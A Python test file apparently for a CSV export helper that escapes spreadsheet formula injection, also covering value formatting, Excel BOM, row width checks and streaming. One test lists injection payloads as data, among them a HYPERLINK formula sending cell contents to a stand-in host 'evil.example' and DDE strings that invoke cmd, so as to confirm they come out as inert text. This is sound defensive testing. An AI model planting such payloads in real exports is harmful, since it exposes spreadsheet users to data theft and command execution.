"""CSV exports cannot smuggle spreadsheet formulas, and honest values survive unchanged."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime, time
from decimal import Decimal
from enum import StrEnum

import pytest
from hypothesis import given
from hypothesis import strategies as st

from servio.kit.csvsafe import (
    CSV_MEDIA_TYPE,
    DANGEROUS_PREFIXES,
    EXCEL_BOM,
    format_cell,
    iter_csv,
    write_csv,
)


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(EXCEL_BOM), newline="")))


class Status(StrEnum):
    PAID = "paid"


def test_formula_payloads_are_shown_as_text() -> None:
    payloads = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    text = write_csv([[payload] for payload in payloads], ["item"])
    assert [row[0] for row in parse(text)[1:]] == ["'" + payload for payload in payloads]


def test_numbers_stay_numbers_but_a_negative_looking_string_does_not() -> None:
    text = write_csv([[-1250, Decimal("-12.50"), "-1+2", "-12.50"]], ["a", "b", "c", "d"])
    assert parse(text)[1] == ["-1250", "-12.50", "'-1+2", "'-12.50"]


def test_values_are_written_the_way_an_accountant_expects() -> None:
    row = [
        date(2025, 3, 30),
        datetime(2025, 3, 30, 8, 15, tzinfo=UTC),
        time(9, 30),
        Decimal("1E+2"),
        None,
        True,
        Status.PAID,
        'Paneer, Tikka "Special"',
        "Crème brûlée ₹",
        "line\nbreak",
    ]
    cells = parse(write_csv([row], [f"c{index}" for index in range(len(row))]))[1]
    assert cells == [
        "2025-03-30",
        "2025-03-30T08:15:00+00:00",
        "09:30:00",
        "100",
        "",
        "true",
        "paid",
        'Paneer, Tikka "Special"',
        "Crème brûlée ₹",
        "line\nbreak",
    ]


def test_non_finite_numbers_are_not_left_as_formulas() -> None:
    assert format_cell(Decimal("-Infinity")) == "'-Infinity"
    assert format_cell(float("-inf")) == "'-inf"
    assert format_cell(-1.5) == "-1.5"


def test_header_cells_are_neutralised_too() -> None:
    assert parse(write_csv([], ["=cmd", "name"])) == [["'=cmd", "name"]]


def test_excel_bom_and_crlf_line_ends() -> None:
    text = write_csv([["a"]], ["h"], bom=True)
    assert text == "\ufeffh\r\na\r\n"
    assert write_csv([["a"]], ["h"]) == "h\r\na\r\n"
    assert CSV_MEDIA_TYPE == "text/csv; charset=utf-8"


def test_a_row_that_does_not_match_the_header_is_a_bug_not_a_shifted_column() -> None:
    with pytest.raises(ValueError, match="2 cells but the header has 3"):
        write_csv([["a", "b"]], ["x", "y", "z"])


def test_without_a_header_rows_may_have_any_width() -> None:
    assert parse(write_csv([["a"], ["b", "c"]], [])) == [["a"], ["b", "c"]]


def test_streaming_yields_whole_lines_and_matches_write_csv() -> None:
    rows = [[index, f"item {index}", "=evil" if index % 7 == 0 else "ok"] for index in range(5000)]
    chunks = list(iter_csv(rows, ["n", "name", "note"], bom=True))
    assert len(chunks) > 1  # a large export is streamed, not built in one piece
    assert all(chunk.endswith("\r\n") for chunk in chunks)
    assert "".join(chunks) == write_csv(rows, ["n", "name", "note"], bom=True)
    assert chunks[0].startswith(EXCEL_BOM)


def test_streaming_does_not_read_every_row_before_the_first_chunk() -> None:
    consumed: list[int] = []

    def rows() -> Iterator[list[object]]:
        for index in range(20_000):
            consumed.append(index)
            yield [index, "x" * 20]

    stream = iter_csv(rows(), ["n", "padding"])
    assert consumed == []
    first = next(stream)
    assert first.startswith("n,padding\r\n0,")
    assert 0 < len(consumed) < 20_000


cell_values = st.one_of(
    st.text(),
    st.text(alphabet="=+-@\t\r\n'\",; aZ0"),
    st.integers(),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.dates(),
    st.none(),
)


@given(rows=st.lists(st.lists(cell_values, min_size=3, max_size=3), max_size=20), bom=st.booleans())
def test_no_cell_read_back_can_start_a_formula(rows: list[list[object]], bom: bool) -> None:
    parsed = parse(write_csv(rows, ["a", "b", "c"], bom=bom))
    assert len(parsed) == len(rows) + 1
    for original_row, parsed_row in zip(rows, parsed[1:], strict=True):
        for original, cell in zip(original_row, parsed_row, strict=True):
            if isinstance(original, str) and original.startswith(DANGEROUS_PREFIXES):
                assert cell == "'" + original
            elif isinstance(original, int | Decimal):
                assert Decimal(cell) == original  # numbers keep their sign and value
            else:
                assert not cell.startswith(DANGEROUS_PREFIXES)


safe_text = st.text().filter(lambda text: not text.startswith(DANGEROUS_PREFIXES))


@given(rows=st.lists(st.lists(safe_text, min_size=2, max_size=2), max_size=20))
def test_safe_text_round_trips_unchanged(rows: list[list[str]]) -> None:
    text = write_csv(rows, ["a", "b"])
    # csv cannot distinguish a lone "" row from an empty line; compare only what it can express.
    assert parse(text)[1:] == rows
